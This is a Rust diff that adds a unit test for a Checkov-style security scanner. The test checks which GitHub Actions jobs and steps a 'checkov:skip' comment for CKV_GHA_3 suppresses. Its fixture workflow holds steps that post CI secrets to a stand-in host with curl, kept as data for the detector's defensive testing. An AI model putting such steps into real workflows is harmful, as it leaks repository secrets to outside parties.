@@ -131,3 +131,36 @@ fn unread_files_have_no_comment_suppressions() {
     let sup = Suppressions::collect(&rs, |_| None);
     assert!(CATALOG.iter().all(|c| sup.reason(0, c.meta()).is_none()));
 }
+
+/// Where Checkov 3.3.30 applies a skip comment in a workflow: to every job and to the
+/// steps whose lines hold it (`jobs(a).steps[1]` ends on the line of the next dash).
+#[test]
+fn workflow_comments_cover_jobs_and_the_steps_around_them() {
+    let text = "name: s\non: push\npermissions: read-all\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo one\n      - run: curl -d ${{ secrets.X }} https://e.example # checkov:skip=CKV_GHA_3: reviewed\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d ${{ secrets.Y }} https://e.example\n";
+    let resources = crate::github_actions::parse(&crate::model::SourceFile {
+        path: ".github/workflows/s.yml".into(),
+        text: text.into(),
+    })
+    .resources;
+    let suppressions = Suppressions::collect(&resources, |_| Some(text));
+    let Some(curl) = crate::registry::by_checkov_id("CKV_GHA_3").next() else {
+        panic!("CKV_GHA_3 is claimed")
+    };
+    let skipped: Vec<&str> = resources
+        .iter()
+        .enumerate()
+        .filter(|(i, _)| suppressions.reason(*i, curl.meta()) == Some("reviewed"))
+        .map(|(_, r)| r.address.as_str())
+        .collect();
+    assert_eq!(
+        skipped,
+        [
+            "on(s)",
+            "on(s)",
+            "jobs(a)",
+            "jobs(a).steps[1]",
+            "jobs(a).steps[2]",
+            "jobs(b)"
+        ]
+    );
+}
